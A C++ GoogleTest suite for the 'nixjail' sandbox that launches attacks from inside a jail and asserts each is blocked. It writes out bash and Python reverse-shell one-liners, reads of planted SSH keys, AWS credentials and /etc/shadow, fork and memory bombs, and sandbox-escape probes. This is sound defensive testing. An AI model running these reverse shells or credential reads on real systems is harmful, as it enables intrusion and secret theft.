// Attacks from inside a jail. Each runs a real program (attack.cc, bash, python3) in a jail built
// on the test root fixture and asserts both that it failed and why. The jail is the namespace
// executor's or the systemd backend's (attack_backend.h); tests about the namespace jail's own
// machinery (its cgroup names) are left out of the systemd run by its filter.
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <gtest/gtest.h>
#include <cstring>
#include <cstddef>
#include <sys/un.h>
#include <ifaddrs.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <optional>
#include <random>
#include <set>
#include <sstream>
#include <thread>

#include "executor/namespace/cgroup.h"
#include "executor/namespace/namespace_executor.h"
#include "executor/namespace/test_root.h"
#include "runner/base/file_io.h"
#include "runner/base/temp_dir.h"
#include "tests/security/attack_backend.h"
#include "tests/support/host_addresses.h"
#include "workspace-cache/job_volume.h"

namespace nixjail::executor {
namespace {

namespace fs = std::filesystem;
constexpr const char* kAttack = "/attacks/attack";

std::string randomTag() {
    std::random_device rd;
    return std::to_string(::getpid()) + "-" + std::to_string(rd());
}

// A host service on 0.0.0.0 that must never see a connection from the jail.
class HostListener {
  public:
    HostListener() : fd_(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0)) {
        sockaddr_in addr{};
        addr.sin_family = AF_INET;
        addr.sin_addr.s_addr = htonl(INADDR_ANY);
        socklen_t len = sizeof addr;
        if (::bind(fd_, reinterpret_cast<sockaddr*>(&addr), len) != 0 || ::listen(fd_, 16) != 0 ||
            ::getsockname(fd_, reinterpret_cast<sockaddr*>(&addr), &len) != 0) {
            throw std::runtime_error("cannot listen on 0.0.0.0");
        }
        port_ = ntohs(addr.sin_port);
    }
    ~HostListener() { ::close(fd_); }
    int port() const { return port_; }
    bool acceptedAnything() const {
        int c = ::accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
        if (c >= 0) ::close(c);
        return c >= 0;
    }

  private:
    int fd_;
    int port_ = 0;
};

class JailAttack : public ::testing::Test {
  protected:
    void SetUp() override {
        NIXJAIL_REQUIRE_ATTACK_BACKEND();
        executor_ = testing::makeAttackExecutor();
        root_ = std::make_unique<testing::TestRoot>(ns_);
    }

    JailSpec spec() const {
        auto s = root_->spec("security-" + randomTag());
        s.binds.push_back({.host = NIXJAIL_ATTACK_BIN, .jail = kAttack});
        return s;
    }

    StepResult run(Jail& jail, std::vector<std::string> argv, std::string* out,
                   std::vector<std::string> extraEnv = {}) {
        StepInvocation step;
        step.argv = std::move(argv);
        step.env = {"PATH=/usr/bin:/bin", "HOME=/workspace"};
        for (auto& e : extraEnv) step.env.push_back(std::move(e));
        step.cwd = "/workspace";
        step.timeout = std::chrono::seconds(30);
        step.on_output = [out](std::string_view s) { out->append(s); };
        return jail.run(step);
    }

    // Runs one attack in a fresh jail and returns its one-line verdict.
    std::string attack(std::vector<std::string> args, std::vector<std::string> env = {},
                       HardeningProfile profile = HardeningProfile::kDefault) {
        auto s = spec();
        s.profile = profile;
        auto jail = executor_->prepare(s);
        std::string out;
        args.insert(args.begin(), kAttack);
        auto r = run(*jail, args, &out, std::move(env));
        EXPECT_EQ(r.setup_error, "");
        return out;
    }

    NamespaceExecutor ns_;  // the step's host ids, which both backends use by default
    std::unique_ptr<Executor> executor_;
    std::unique_ptr<testing::TestRoot> root_;
};

TEST_F(JailAttack, PlantedSshKeyAndAwsCredentialsAreNotReachable) {
    base::TempDir home("nixjail-home-");
    fs::create_directories(home.path() / ".ssh");
    fs::create_directories(home.path() / ".aws");
    base::writeFile(home.path() / ".ssh/id_rsa", "PLANTED-PRIVATE-KEY");
    base::writeFile(home.path() / ".aws/credentials", "aws_secret_access_key=PLANTED");
    ::chmod(home.path().c_str(), 0755);
    auto env = std::vector<std::string>{"HOME=" + home.path().string()};
    EXPECT_EQ(attack({"read", (home.path() / ".ssh/id_rsa").string()}, env), "ENOENT\n");
    EXPECT_EQ(attack({"read", (home.path() / ".aws/credentials").string()}, env), "ENOENT\n");
    // The namespace jail's root has no /root; a systemd unit's /root is ProtectHome='s
    // inaccessible directory.
    const std::string noRoot = testing::attacksUnderSystemd() ? "EACCES\n" : "ENOENT\n";
    EXPECT_EQ(attack({"read", "/root/.ssh/id_rsa"}), noRoot);
    EXPECT_EQ(attack({"read", "/root/.aws/credentials"}), noRoot);
    // Through the shell's ~ expansion with the host HOME as well.
    auto jail = executor_->prepare(spec());
    std::string out;
    auto r = run(*jail, {"sh", "-c", "cat ~/.ssh/id_rsa ~/.aws/credentials"}, &out, env);
    EXPECT_NE(r.exit_code, 0);
    EXPECT_EQ(out.find("PLANTED"), std::string::npos) << out;
}

TEST_F(JailAttack, EtcShadowIsNotVisible) {
    ASSERT_TRUE(fs::exists("/etc/shadow")) << "the host has no /etc/shadow to protect";
    EXPECT_EQ(attack({"read", "/etc/shadow"}), "ENOENT\n");
}

TEST_F(JailAttack, HostTcpListenerIsUnreachableOnEveryHostAddress) {
    HostListener listener;
    auto port = std::to_string(listener.port());
    for (const auto& ip : nixjail::tests::hostIPv4Addresses()) {
        auto verdict = attack({"connect", ip, port});
        // 127.0.0.1 is the jail's own loopback, where nothing listens; other addresses have no
        // route.
        if (ip.rfind("127.", 0) == 0) {
            EXPECT_EQ(verdict, "ECONNREFUSED\n") << ip;
        } else {
            EXPECT_EQ(verdict, "ENETUNREACH\n") << ip;
        }
    }
    EXPECT_FALSE(listener.acceptedAnything());
}

// A host service listening on every IPv6 address (and, dual-stack, on IPv4 through mapped
// addresses): the jail reaches none of the host's IPv6 addresses, its link-local ones with their
// interface's scope, nor the host's IPv4 addresses mapped into IPv6.
TEST_F(JailAttack, HostListenerIsUnreachableOverIPv6LinkLocalAndMappedAddresses) {
    int fd = ::socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
    if (fd < 0) GTEST_SKIP() << "no IPv6 on this host";
    int off = 0;
    ::setsockopt(fd, IPPROTO_IPV6, IPV6_V6ONLY, &off, sizeof off);
    sockaddr_in6 addr{};
    addr.sin6_family = AF_INET6;
    addr.sin6_addr = in6addr_any;
    socklen_t len = sizeof addr;
    ASSERT_EQ(::bind(fd, reinterpret_cast<sockaddr*>(&addr), len), 0);
    ASSERT_EQ(::listen(fd, 16), 0);
    ASSERT_EQ(::getsockname(fd, reinterpret_cast<sockaddr*>(&addr), &len), 0);
    const std::string port = std::to_string(ntohs(addr.sin6_port));
    std::vector<std::vector<std::string>> targets;
    ifaddrs* list = nullptr;
    ASSERT_EQ(::getifaddrs(&list), 0);
    for (ifaddrs* i = list; i; i = i->ifa_next) {
        if (!i->ifa_addr) continue;
        char text[INET6_ADDRSTRLEN] = {};
        if (i->ifa_addr->sa_family == AF_INET6) {
            auto* a6 = reinterpret_cast<sockaddr_in6*>(i->ifa_addr);
            ::inet_ntop(AF_INET6, &a6->sin6_addr, text, sizeof text);
            targets.push_back({"connect6", text, port, std::to_string(a6->sin6_scope_id)});
        } else if (i->ifa_addr->sa_family == AF_INET) {
            auto* a4 = reinterpret_cast<sockaddr_in*>(i->ifa_addr);
            ::inet_ntop(AF_INET, &a4->sin_addr, text, sizeof text);
            if (std::string(text).rfind("127.", 0) == 0) continue;  // the jail's own loopback
            targets.push_back({"connect6", std::string("::ffff:") + text, port, "0"});
        }
    }
    ::freeifaddrs(list);
    ASSERT_FALSE(targets.empty());
    for (const auto& t : targets) {
        const std::string verdict = attack(t);
        EXPECT_NE(verdict.rfind("OK", 0), 0u) << t[1] << " scope " << t[3];
        // ::1 is the jail's own loopback, where nothing listens.
        if (t[1] == "::1") {
            EXPECT_EQ(verdict, "ECONNREFUSED\n");
        }
    }
    int c = ::accept4(fd, nullptr, nullptr, SOCK_CLOEXEC);
    EXPECT_LT(c, 0) << "the host listener accepted a connection from the jail";
    if (c >= 0) ::close(c);
    ::close(fd);
}

// Abstract unix sockets have no file to hide: only the network namespace keeps a host service
// listening there (an X server, a container shim) out of the jail's reach.
TEST_F(JailAttack, AHostsAbstractUnixSocketIsOutOfReach) {
    const std::string name = "nixjail-attack-" + randomTag();
    int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
    sockaddr_un addr{};
    addr.sun_family = AF_UNIX;
    std::memcpy(addr.sun_path + 1, name.data(), name.size());
    const auto len = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size());
    ASSERT_EQ(::bind(fd, reinterpret_cast<sockaddr*>(&addr), len), 0);
    ASSERT_EQ(::listen(fd, 4), 0);
    EXPECT_EQ(attack({"abstract", name}), "ECONNREFUSED\n");
    int c = ::accept4(fd, nullptr, nullptr, SOCK_CLOEXEC);
    EXPECT_LT(c, 0);
    if (c >= 0) ::close(c);
    ::close(fd);
}

// The host's daemons listen on unix sockets under /run and /nix/var; none is in the jail.
TEST_F(JailAttack, TheHostsDaemonSocketsAreNotInTheJail) {
    for (const char* path : {"/nix/var/nix/daemon-socket/socket", "/run/systemd/private",
                             "/var/run/docker.sock", "/run/dbus/system_bus_socket"}) {
        EXPECT_EQ(attack({"unix", path}), "ENOENT\n") << path;
    }
}

// Kernel interfaces a step has no business with, each refused (by the seccomp filter, the missing
// capability, or because it is not in the jail at all). The verdict is the errno of the call.
struct KernelAttack {
    std::vector<std::string> args;
    std::string why;  // what blocks it in the namespace jail
};

TEST_F(JailAttack, KernelInterfacesBeyondAStepsNeedsAreRefused) {
    const std::vector<KernelAttack> attacks = {
        {{"keyctl"}, "seccomp: keyctl/add_key"},
        {{"bpf"}, "seccomp: bpf"},
        {{"perf"}, "seccomp: perf_event_open"},
        {{"userfaultfd"}, "seccomp: userfaultfd"},
        {{"kexec"}, "seccomp: kexec_load"},
        {{"chroot"}, "no CAP_SYS_CHROOT"},
        {{"open-by-handle"}, "seccomp: open_by_handle_at (the 'shocker' escape)"},
        {{"mknod-block"}, "no CAP_MKNOD"},
        {{"settime"}, "seccomp: clock_settime"},
        {{"sethostname"}, "no CAP_SYS_ADMIN"},
        {{"swapon"}, "seccomp: swapon"},
        {{"fsopen"}, "seccomp: the new mount API"},
        {{"pivot-root"}, "seccomp: pivot_root"},
        {{"acct"}, "seccomp: acct"},
        {{"ioperm"}, "seccomp: ioperm"},
        {{"open-write", "/proc/sys/kernel/hostname"}, "/proc/sys is a read-only bind"},
        {{"open-write", "/proc/sysrq-trigger"}, "not in the jail's /proc"},
        {{"open-read", "/dev/kmsg"}, "not in the jail's /dev"},
        {{"open-read", "/proc/kcore"}, "not in the jail's /proc"},
        {{"open-write", "/sys/fs/cgroup/cgroup.procs"}, "no /sys in the jail"},
    };
    for (const auto& a : attacks) {
        const std::string verdict = attack(a.args);
        EXPECT_FALSE(verdict.empty()) << a.args[0];
        EXPECT_NE(verdict.rfind("OK", 0), 0u) << a.args[0] << " " << (a.args.size() > 1 ? a.args[1] : "")
                                              << " was not refused (" << a.why << ")";
        std::printf("  %-14s %-30s -> %s", a.args[0].c_str(), a.args.size() > 1 ? a.args[1].c_str() : "",
                    verdict.c_str());
    }
}

TEST_F(JailAttack, RawPacketAndNetlinkSocketsAreDenied) {
    EXPECT_EQ(attack({"socket", "raw"}), "EPERM\n");
    EXPECT_EQ(attack({"socket", "raw6"}), "EPERM\n");
    // The namespace jail's seccomp filter answers EPERM; systemd's RestrictAddressFamilies=
    // answers EAFNOSUPPORT.
    const std::string refused = testing::attacksUnderSystemd() ? "EAFNOSUPPORT\n" : "EPERM\n";
    EXPECT_EQ(attack({"socket", "packet"}), refused);
    EXPECT_EQ(attack({"socket", "netlink"}), refused);
    EXPECT_EQ(attack({"socket", "netlink-high"}), refused);
}

TEST_F(JailAttack, PtraceOfAProcessOutsideIsDenied) {
    pid_t victim = ::fork();
    if (victim == 0) {
        ::pause();
        ::_exit(0);
    }
    auto pid = std::to_string(victim);
    EXPECT_EQ(attack({"ptrace", pid}), "EPERM\n");  // seccomp
    if (testing::attacksUnderSystemd()) {
        // No pid namespace for a unit before systemd 257 (PrivatePIDs=): the process is there,
        // but a step may not signal another user's process.
        EXPECT_EQ(attack({"kill0", pid}), "EPERM\n");
    } else {
        EXPECT_EQ(attack({"kill0", pid}), "ESRCH\n");  // invisible from the jail's pid namespace
    }
    ::kill(victim, SIGKILL);
    ::waitpid(victim, nullptr, 0);
}

// The host pid of the process whose command line holds `marker`, or 0.
pid_t hostPidMentioning(const std::string& marker) {
    for (const auto& e : fs::directory_iterator("/proc")) {
        auto name = e.path().filename().string();
        if (name.find_first_not_of("0123456789") != std::string::npos) continue;
        std::ifstream in(e.path() / "cmdline", std::ios::binary);
        std::string cmd((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
        if (cmd.rfind(marker, 0) == 0) return static_cast<pid_t>(std::stoi(name));
    }
    return 0;
}

// Two jobs at once: one step looks for the other's process and signals it.
TEST_F(JailAttack, AnotherJobsProcessIsOutOfReach) {
    const std::string marker = "nixjail-victim-" + randomTag();
    auto victimJail = executor_->prepare(spec());
    std::stop_source stopVictim;
    std::thread victim([&] {
        StepInvocation step;
        step.argv = {"bash", "-c", "exec -a " + marker + " sleep 30"};
        step.env = {"PATH=/usr/bin:/bin", "HOME=/workspace"};
        step.cwd = "/workspace";
        step.timeout = std::chrono::seconds(40);
        step.cancel = stopVictim.get_token();
        victimJail->run(step);
    });
    pid_t pid = 0;
    for (int i = 0; i < 200 && pid == 0; ++i) {
        pid = hostPidMentioning(marker);
        if (pid == 0) ::usleep(50 * 1000);
    }
    ASSERT_NE(pid, 0) << "the victim step did not start";
    const std::string seen = attack({"kill0", std::to_string(pid)});
    if (testing::attacksUnderSystemd()) {
        // README, "The systemd executor": no pid namespace for a unit before systemd 257, and
        // every job's steps have the same uid, so a concurrent job's process is visible and may
        // be signalled (the daemon warns at capacity > 1). Pinned, so that a fix shows here.
        EXPECT_EQ(seen, "OK\n");
    } else {
        EXPECT_EQ(seen, "ESRCH\n");  // each job has its own pid namespace
    }
    stopVictim.request_stop();
    victim.join();
}

TEST_F(JailAttack, IoUringIsDenied) { EXPECT_EQ(attack({"io_uring"}), "EPERM\n"); }

TEST_F(JailAttack, MountIsDenied) { EXPECT_EQ(attack({"mount"}), "EPERM\n"); }

TEST_F(JailAttack, NewUserAndNetworkNamespacesAreDenied) {
    EXPECT_EQ(attack({"userns"}), "EPERM\n");
    EXPECT_EQ(attack({"netns"}), "EPERM\n");
}

TEST_F(JailAttack, SetuidRootBinaryDoesNotGiveRoot) {
    base::TempDir dir("nixjail-suid-");
    ::chmod(dir.path().c_str(), 0755);
    auto suid = dir.path() / "attack";
    fs::copy_file(NIXJAIL_ATTACK_BIN, suid);
    ASSERT_EQ(::chown(suid.c_str(), 0, 0), 0);
    ASSERT_EQ(::chmod(suid.c_str(), 04755), 0);
    auto s = spec();
    s.binds.push_back({.host = dir.path(), .jail = "/suid"});
    auto jail = executor_->prepare(s);
    std::string out;
    auto r = run(*jail, {"/suid/attack", "euid"}, &out);
    EXPECT_EQ(r.exit_code, 0) << r.setup_error;
    // nosuid bind, no_new_privs, and root is not even mapped: the step's own ids stay (the jail's
    // 1000, or the host's step account for a systemd unit).
    const std::string stepIds = testing::attacksUnderSystemd()
                                    ? std::to_string(executor_->traits().step_owner->uid) + " " +
                                          std::to_string(executor_->traits().step_owner->gid) + "\n"
                                    : "1000 1000\n";
    EXPECT_EQ(out, stepIds);
    out.clear();
    run(*jail, {"/suid/attack", "setuid0"}, &out);
    EXPECT_EQ(out, "EPERM\n");
    // Nor can the step make a setuid file of its own.
    out.clear();
    run(*jail, {kAttack, "write", "/workspace/mine"}, &out);
    out.clear();
    run(*jail, {kAttack, "chmod-suid", "/workspace/mine"}, &out);
    EXPECT_EQ(out, "EPERM\n");
}

TEST_F(JailAttack, ReadOnlyBindsAndRootCannotBeWritten) {
    EXPECT_EQ(attack({"write", "/usr/nixjail-pwned"}), "EROFS\n");
    EXPECT_EQ(attack({"write", "/etc/nixjail-pwned"}), "EROFS\n");
    EXPECT_EQ(attack({"write", "/attacks/attack"}), "EROFS\n");
    EXPECT_EQ(attack({"write", "/workspace/allowed"}), "OK\n");  // control: the workspace is rw
    EXPECT_FALSE(fs::exists("/usr/nixjail-pwned"));
}

TEST_F(JailAttack, KernelModuleLoadingIsDenied) {
    EXPECT_EQ(attack({"module"}), "EPERM\n");
    EXPECT_EQ(attack({"init-module"}), "EPERM\n");
}

TEST_F(JailAttack, ForeignAbiSyscallsAreDenied) {
#if defined(__x86_64__)
    // Outside the jail this kernel answers ENOSYS (no x32 support) or runs it; inside the filter
    // refuses the foreign ABI before the kernel looks at it.
    if (testing::attacksUnderSystemd()) {
        // SystemCallArchitectures=native kills the process at a foreign ABI's first call.
        auto jail = executor_->prepare(spec());
        std::string out;
        auto r = run(*jail, {kAttack, "x32"}, &out);
        EXPECT_EQ(r.term_signal, SIGSYS) << out << r.setup_error;
        EXPECT_EQ(out, "");
    } else {
        EXPECT_EQ(attack({"x32"}), "EPERM\n");
    }
#else
    GTEST_SKIP() << "the x32 probe is x86_64 only";
#endif
}

// The strict profile's W^X rule; the default profile lets JIT runtimes map such memory (README,
// "JIT-capable by default").
TEST_F(JailAttack, WritableExecutableMappingIsDeniedUnderStrictAllowedByDefault) {
    EXPECT_EQ(attack({"wx"}, {}, HardeningProfile::kStrict), "EPERM\n");
    EXPECT_EQ(attack({"wx"}), "OK\n");
}

bool anyProcessMentions(const std::string& marker) {
    for (const auto& e : fs::directory_iterator("/proc")) {
        auto name = e.path().filename().string();
        if (name.find_first_not_of("0123456789") != std::string::npos) continue;
        std::ifstream in(e.path() / "cmdline", std::ios::binary);
        std::string cmd((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
        if (cmd.find(marker) != std::string::npos) return true;
    }
    return false;
}

TEST_F(JailAttack, DaemonizedProcessDoesNotOutliveTheStep) {
    auto marker = "nixjail-daemon-" + randomTag();
    EXPECT_EQ(attack({"daemonize", marker}), "OK daemonized\n");
    EXPECT_FALSE(anyProcessMentions(marker));
}

TEST_F(JailAttack, ForkBombIsHeldByThePidsLimit) {
    auto s = spec();
    s.limits.pids_max = 32;
    auto jail = executor_->prepare(s);
    std::string out;
    auto r = run(*jail, {kAttack, "forkbomb"}, &out);
    EXPECT_EQ(r.exit_code, 0) << r.setup_error;
    EXPECT_EQ(out.rfind("EAGAIN after ", 0), 0u) << out;
    EXPECT_LT(std::atoi(out.c_str() + 13), 32);  // the step itself counts too
    // The runner and the jail survive: the next step runs normally.
    out.clear();
    EXPECT_EQ(run(*jail, {"sh", "-c", "echo alive"}, &out).exit_code, 0);
    EXPECT_EQ(out, "alive\n");
}

TEST_F(JailAttack, MemoryBombIsReportedAsOom) {
    auto s = spec();
    s.limits.memory_max_bytes = 64ull << 20;
    auto jail = executor_->prepare(s);
    std::string out;
    auto r = run(*jail, {kAttack, "membomb"}, &out);
    EXPECT_TRUE(r.oom_killed);
    EXPECT_EQ(r.term_signal, SIGKILL);
    EXPECT_EQ(out, "");
}

TEST_F(JailAttack, FillingTmpEndsInEnospcAndTheJailSurvives) {
    auto s = spec();
    s.limits.memory_max_bytes = 128ull << 20;
    auto jail = executor_->prepare(s);
    std::string out;
    auto r = run(
        *jail,
        {"sh", "-c", "cat /dev/zero > /tmp/fill; echo $?; cat /dev/zero > /dev/shm/fill; echo $?"},
        &out);
    EXPECT_FALSE(r.oom_killed);
    EXPECT_EQ(r.exit_code, 0) << r.setup_error;
    EXPECT_NE(out.find("No space left on device"), std::string::npos) << out;
    EXPECT_EQ(out.find("\n0\n"), std::string::npos) << out;
}

// With a disk quota the workspace is the job's own volume: filling it ends in ENOSPC at the
// quota, and the host's disk holds no more than the quota for it.
TEST_F(JailAttack, FillingTheWorkspaceStopsAtTheDiskQuota) {
    if (const std::string why = cache::JobVolume::unavailableReason(); !why.empty()) {
        const char* strict = std::getenv("NIXJAIL_TESTS_STRICT");
        if (strict && std::string(strict) == "1") FAIL() << why;
        GTEST_SKIP() << why;
    }
    base::TempDir dir("nixjail-quota-");
    fs::permissions(dir.path(), fs::perms::others_exec | fs::perms::group_exec, fs::perm_options::add);
    constexpr std::uint64_t kQuota = 64ull << 20;
    std::string out;
    {
        cache::JobVolume volume(dir.path() / "volume.img", dir.path() / "volume", kQuota);
        const fs::path workspace = volume.path() / "workspace";
        fs::create_directory(workspace);
        ASSERT_EQ(::chown(workspace.c_str(), ns_.stepHostUid(), ns_.stepHostGid()), 0);
        auto s = spec();
        for (auto& b : s.binds) {
            if (b.jail == "/workspace") b.host = workspace;
        }
        auto jail = executor_->prepare(s);
        auto r = run(*jail, {"sh", "-c", "cat /dev/zero > /workspace/fill; echo exit=$?"}, &out);
        EXPECT_EQ(r.exit_code, 0) << r.setup_error;
        EXPECT_LT(volume.usage().available_bytes, 1u << 20);
        struct stat st {};
        ASSERT_EQ(::stat((dir.path() / "volume.img").c_str(), &st), 0);
        EXPECT_LE(static_cast<std::uint64_t>(st.st_blocks) * 512, kQuota + (1u << 20));
    }
    EXPECT_NE(out.find("No space left on device"), std::string::npos) << out;
    EXPECT_EQ(out.find("exit=0"), std::string::npos) << out;
    EXPECT_TRUE(fs::is_empty(dir.path())) << "the volume, its image and mount point are gone";
}

TEST_F(JailAttack, ReverseShellCannotConnectOut) {
    HostListener listener;
    auto port = std::to_string(listener.port());
    for (const auto& ip : nixjail::tests::hostIPv4Addresses()) {
        auto jail = executor_->prepare(spec());
        std::string out;
        auto r =
            run(*jail, {"bash", "-c", "bash -i >& /dev/tcp/" + ip + "/" + port + " 0>&1"}, &out);
        EXPECT_NE(r.exit_code, 0) << ip;
        EXPECT_TRUE(out.find("Connection refused") != std::string::npos ||
                    out.find("Network is unreachable") != std::string::npos)
            << out;
        out.clear();
        r = run(*jail,
                {"python3", "-c",
                 "import socket,subprocess\ns = socket.create_connection(('" + ip + "', " + port +
                     "), timeout=5)\nsubprocess.call(['/bin/sh', '-i'], stdin=s, stdout=s)"},
                &out);
        EXPECT_NE(r.exit_code, 0) << ip;
        EXPECT_TRUE(out.find("ConnectionRefusedError") != std::string::npos ||
                    out.find("Network is unreachable") != std::string::npos)
            << out;
    }
    EXPECT_FALSE(listener.acceptedAnything());
}

// Clock ticks since boot, comparable with the start time in /proc/<pid>/stat.
unsigned long long ticksSinceBoot() {
    std::istringstream in(base::readFile("/proc/uptime"));
    double seconds = 0;
    in >> seconds;
    return static_cast<unsigned long long>(seconds * static_cast<double>(::sysconf(_SC_CLK_TCK)));
}

// The start time of a process (field 22 of /proc/<pid>/stat), or nullopt if it is gone.
std::optional<unsigned long long> processStart(const fs::path& proc_dir) {
    std::string stat;
    try {
        stat = base::readFile(proc_dir / "stat");
    } catch (const std::exception&) {
        return std::nullopt;
    }
    const auto close = stat.rfind(')');
    if (close == std::string::npos) return std::nullopt;
    std::istringstream fields(stat.substr(close + 1));
    std::string field;
    for (int i = 3; i <= 22 && fields >> field; ++i) {
        if (i == 22) return std::stoull(field);
    }
    return std::nullopt;
}

// The namespaces held by processes that started no later than `started_by` (clock ticks since
// boot). Later processes are not the jail's: the kernel reuses a freed namespace's inode number,
// and a test running beside this one may get the jail's old number for its own new namespace.
std::set<std::string> namespaceInodesInUse(unsigned long long started_by) {
    std::set<std::string> out;
    for (const auto& e : fs::directory_iterator("/proc")) {
        auto name = e.path().filename().string();
        if (name.find_first_not_of("0123456789") != std::string::npos) continue;
        const auto start = processStart(e.path());
        if (!start || *start > started_by) continue;
        for (const char* ns : {"net", "pid", "mnt", "user"}) {
            std::error_code ec;
            auto target = fs::read_symlink(e.path() / "ns" / ns, ec);
            if (!ec) out.insert(target.string());
        }
    }
    return out;
}

std::string mountTable() { return base::readFile("/proc/self/mountinfo"); }

TEST_F(JailAttack, NothingLeaksAfterTheJailIsGone) {
    auto mountsBefore = mountTable();
    auto s = spec();
    auto marker = "nixjail-leak-" + randomTag();
    std::string out;
    std::vector<fs::path> cgroups;
    {
        auto jail = executor_->prepare(s);
        // A daemon, a timeout and a normal step; the step reports its namespaces.
        run(*jail, {kAttack, "daemonize", marker}, &out);
        StepInvocation slow;
        slow.argv = {"sh", "-c", "sleep 100 & sleep 100"};
        slow.timeout = std::chrono::milliseconds(200);
        EXPECT_TRUE(jail->run(slow).timed_out);
        out.clear();
        run(*jail, {"sh", "-c", "for n in net pid mnt user; do readlink /proc/self/ns/$n; done"},
            &out);
        for (const auto& h : ns::CgroupLayout::detect().hierarchies) {
            for (const auto& p : fs::directory_iterator(h.parent)) {
                if (p.path().filename().string().find(s.job_id) != std::string::npos) {
                    cgroups.push_back(p.path());
                }
            }
        }
    }
    const auto jail_gone = ticksSinceBoot();
    EXPECT_FALSE(cgroups.empty()) << "the jail made no cgroup named after job " << s.job_id;
    for (const auto& c : cgroups) EXPECT_FALSE(fs::exists(c)) << c;
    EXPECT_FALSE(anyProcessMentions(marker));
    auto inUse = namespaceInodesInUse(jail_gone);
    std::istringstream nsLines(out);
    std::string line;
    int seen = 0;
    while (std::getline(nsLines, line)) {
        ++seen;
        EXPECT_EQ(inUse.count(line), 0u) << "namespace " << line << " is still held by a process";
    }
    EXPECT_EQ(seen, 4) << out;
    // Only this jail's mounts count: tests running beside this one (ctest -j) mount and unmount
    // their own.
    {
        std::set<std::string> before;
        std::istringstream b(mountsBefore);
        for (std::string l; std::getline(b, l);) before.insert(l);
        std::istringstream after(mountTable());
        for (std::string l; std::getline(after, l);) {
            if (before.count(l)) continue;
            bool ours = l.find(ns::cgroupSafeName(s.job_id)) != std::string::npos ||
                        (!s.root.empty() && l.find(" " + s.root.string()) != std::string::npos);
            for (const auto& bind : s.binds) ours = ours || l.find(" " + bind.host.string()) != std::string::npos;
            EXPECT_FALSE(ours) << "a mount of the jail is left: " << l;
        }
    }
    for (const auto& e : fs::directory_iterator(fs::temp_directory_path())) {
        EXPECT_EQ(e.path().filename().string().find(ns::cgroupSafeName(s.job_id)),
                  std::string::npos)
            << e.path();
    }
}

// Prints the summary line the security suite promises, after gtest's own.
class SummaryPrinter : public ::testing::EmptyTestEventListener {
    void OnTestProgramEnd(const ::testing::UnitTest& unit) override {
        if (unit.skipped_test_count() > 0) std::printf("%d skipped\n", unit.skipped_test_count());
        std::printf("%d passed, %d failed\n", unit.successful_test_count(),
                    unit.failed_test_count());
        std::fflush(stdout);
    }
};

}  // namespace
}  // namespace nixjail::executor

int main(int argc, char** argv) {
    ::testing::InitGoogleTest(&argc, argv);
    ::testing::UnitTest::GetInstance()->listeners().Append(new nixjail::executor::SummaryPrinter);
    return RUN_ALL_TESTS();
}
